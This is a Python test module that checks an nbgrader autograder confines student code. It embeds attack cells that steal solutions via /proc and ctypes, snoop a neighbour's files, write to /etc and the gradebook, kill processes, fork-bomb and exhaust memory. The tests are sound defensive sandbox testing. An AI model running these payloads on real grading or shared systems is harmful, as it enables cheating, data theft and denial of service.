"""Real attacks through `python -m autograder grade`: each may cost only the attacker.

Every attacker starts from bitdiddle's submission of nbgrader's example course and adds one cell that tries to
reach what a confined student process must not: the solutions in source/, the gradebook, a neighbour's working
copy, a server on loopback, the grader's processes, files outside its working copy, the machine's processes and
memory. A stolen solution would be exec'd (raising the attacker's score) and announced with STOLEN in the
output, so a leak shows up twice: in the grades and in the autograded notebook.
"""
import hashlib
import os
import shutil
import socket
import subprocess
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest

from grader.course import ENV, add_student, grade_argv, grades, make_course, our_grade, stock_autograde
from grader.test_grade import insert_cell

# the marker is assembled at run time: a traceback that quotes the attack's source must not look like a leak
LEAK = '''LEAK = "ST" + "OLEN"
'''
STEAL = LEAK + '''
import json, os
def steal(text, how):
    """Run the instructor's solution cells, as a cheater would, and say so."""
    try:
        cells = json.loads(text)["cells"]
    except ValueError:
        return
    for cell in cells:
        source = "".join(cell["source"])
        if "BEGIN SOLUTION" in source:
            exec(source, globals())
    print(LEAK, "via", how)
'''

NEIGHBOUR_MARK = "VICTIM-NOTES-4242"


def attacks(course: Path, port: int) -> dict[str, str]:
    solution = f"{course}/source/ps1/problem1.ipynb"
    return {
        "proc_cat": STEAL + f'''
import glob, subprocess
paths = {{{solution!r}}}
for cmdline in glob.glob("/proc/*/cmdline"):
    try:
        parts = open(cmdline, "rb").read().split(b"\\0")
    except OSError:
        continue
    if b"--course" in parts:
        paths.add(parts[parts.index(b"--course") + 1].decode() + "/source/ps1/problem1.ipynb")
for path in paths:
    out = subprocess.run(["cat", path], capture_output=True, text=True).stdout
    if out:
        steal(out, "cat")
os.system(f"cat {solution} > stolen.txt 2>/dev/null")
if os.path.getsize("stolen.txt"):
    steal(open("stolen.txt").read(), "os.system")
print("proc_cat tried", len(paths), "paths")
''',
        "ctypes_open": STEAL + f'''
import ctypes
libc = ctypes.CDLL(None)
for path, what in (({str(course / "gradebook.db")!r}, "gradebook"), ({solution!r}, "solution")):
    fd = libc.open(path.encode(), 0)
    if fd >= 0:
        buf = ctypes.create_string_buffer(1 << 20)
        n = libc.read(fd, buf, 1 << 20)
        if what == "solution":
            steal(buf.raw[:n].decode(), "ctypes")
        else:
            print(LEAK, "gradebook", buf.raw[:16])
''',
        "neighbour": LEAK + f'''
import glob, os, time
seen = set()
end = time.time() + 2.5
while time.time() < end:  # long enough to overlap the victim, graded at the same time in the other worker
    for top in ["/tmp", "/var/tmp", os.path.dirname(os.path.dirname(os.getcwd()))] + glob.glob("/tmp/l2w-pool-*"):
        for folder, _, files in os.walk(top):
            for name in files:
                try:
                    text = open(os.path.join(folder, name), errors="replace").read()
                except OSError:
                    continue
                if {NEIGHBOUR_MARK!r} in text and folder != os.getcwd():
                    seen.add(folder)
    time.sleep(0.2)
if seen:
    print(LEAK, "neighbour", sorted(seen))
''',
        "socket": LEAK + f'''
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"ATTACK")
        print(LEAK, "socket")
except OSError as err:
    print("no route:", err)
''',
        "killer": '''
import os, signal
for pid in [os.getppid(), -1, 0]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''',
        "writer": f'''
import subprocess
for path in [{str(course / "gradebook.db")!r}, {solution!r}, {str(course / "evil.txt")!r},
             {str(course / "autograded/hacker/ps1/problem1.ipynb")!r}, "/etc/evil.txt", "/usr/evil.txt",
             "/evil.txt"]:
    subprocess.run(["sh", "-c", f"echo EVIL > {{path}}"], capture_output=True)
''',
        "forkbomb": '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
        "hog": "block = bytearray(30 * 2**30)",
    }


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Listener:
    """A TCP server on loopback that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(100))


def autograded_outputs(course: Path, student: str) -> str:
    """What the student's cells printed, in the autograded notebooks, and the files left beside them."""
    folder = course / "autograded" / student / "ps1"
    text = [str(cell.get("outputs", "")) for path in folder.glob("*.ipynb")
            for cell in nbformat.read(str(path), as_version=4).cells]
    text += [p.read_text(errors="replace") for p in folder.iterdir() if p.suffix == ".txt"]
    return "\n".join(text)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("attacked"))
    listener = Listener()
    add_student(course, "victim", "hacker", insert_cell("import time\ntime.sleep(3)"))
    (course / "submitted" / "victim" / "ps1" / "notes.txt").write_text(NEIGHBOUR_MARK)
    for name, code in attacks(course, listener.port).items():
        add_student(course, name, "bitdiddle", insert_cell(code))
    before = {p: digest(p) for p in (course / "source").rglob("*") if p.is_file()}
    run = our_grade(course, "--cell-timeout", "3", "--memory-mb", "1024", "--workers", "2", check=False)
    listener.sock.close()
    return course, run, grades(course), listener, before


def test_every_attack_costs_only_the_attacker(attacked):
    course, run, ours, listener, before = attacked
    assert run.returncode == 0, run.stderr
    by_student = {}
    for (student, notebook, grade_id), score in ours.items():
        by_student.setdefault(student, {})[(notebook, grade_id)] = score
    honest = by_student["bitdiddle"]
    for name in attacks(course, 0):
        assert name in by_student, f"{name} was not graded: {run.stdout}\n{run.stderr}"
        assert by_student[name] == honest, f"{name} scored differently from the submission it started from"
        assert "STOLEN" not in autograded_outputs(course, name), f"{name} reached what it must not"
    assert by_student["victim"] == by_student["hacker"]
    assert sum(v or 0 for v in by_student["hacker"].values()) == 3.0  # nbgrader's docs: hacker 3.0, bitdiddle 1.5
    assert sum(v or 0 for v in honest.values()) == 1.5
    assert listener.received == []
    assert {p: digest(p) for p in (course / "source").rglob("*") if p.is_file()} == before
    assert not (course / "evil.txt").exists() and not Path("/etc/evil.txt").exists()
    assert not Path("/usr/evil.txt").exists() and not Path("/evil.txt").exists()
    assert "EVIL" not in autograded_outputs(course, "hacker")


@pytest.fixture
def open_dir():
    """A folder every user can reach, as a course directory with the usual 0755 permissions is."""
    path = Path(tempfile.mkdtemp(prefix="l2w-open-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_the_attacks_are_real(open_dir):
    """Unconfined (`--unconfined`, loudly), the same cat of source/ steals the solution: the test can fail."""
    course = make_course(open_dir)
    add_student(course, "proc_cat", "bitdiddle", insert_cell(attacks(course, 0)["proc_cat"]))
    run = our_grade(course, "--unconfined")
    assert "WARNING: grading UNCONFINED" in run.stderr and "source/" in run.stderr
    assert "STOLEN via cat" in autograded_outputs(course, "proc_cat")
    stolen = {k[1:]: v for k, v in grades(course).items() if k[0] == "proc_cat"}
    honest = {k[1:]: v for k, v in grades(course).items() if k[0] == "bitdiddle"}
    assert sum(v or 0 for v in stolen.values()) > sum(v or 0 for v in honest.values())


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to drop every capability with setpriv")
def test_grade_refuses_to_run_unconfined(tmp_path):
    """Where the kernel refuses namespaces (here: root without capabilities), `grade` stops and says why."""
    course = make_course(tmp_path)
    run = subprocess.run(["setpriv", "--bounding-set", "-all", "--inh-caps", "-all", *grade_argv(course)],
                         capture_output=True, text=True, env=ENV)
    assert run.returncode == 3
    assert "cannot confine student code" in run.stderr and "--unconfined" in run.stderr
    assert not (course / "autograded").exists()


def test_stock_nbgrader_autograde_with_the_course_config_is_confined(open_dir):
    """`nbgrader autograde` (and so formgrader's Autograde button) with the course's Autograde settings runs the
    submission confined too: the cat of source/ that works unconfined finds nothing, and the grades are stock's."""
    from hub.course import repository_course_config

    course = make_course(open_dir)
    autograde = repository_course_config()["Autograde"]
    with open(course / "nbgrader_config.py", "a") as config:
        for name in ("sanitize_preprocessors", "autograde_preprocessors"):
            config.write(f"c.Autograde.{name} = {autograde[name]!r}\n")
    add_student(course, "proc_cat", "bitdiddle", insert_cell(attacks(course, 0)["proc_cat"]))
    stock_autograde(course)
    ours = grades(course)
    assert "proc_cat tried" in autograded_outputs(course, "proc_cat")  # the attack ran, and found nothing
    assert "STOLEN" not in autograded_outputs(course, "proc_cat")
    by = lambda who: {k[1:]: v for k, v in ours.items() if k[0] == who}  # noqa: E731
    assert by("proc_cat") == by("bitdiddle")
    assert sum(v or 0 for v in by("hacker").values()) == 3.0 and sum(v or 0 for v in by("bitdiddle").values()) == 1.5

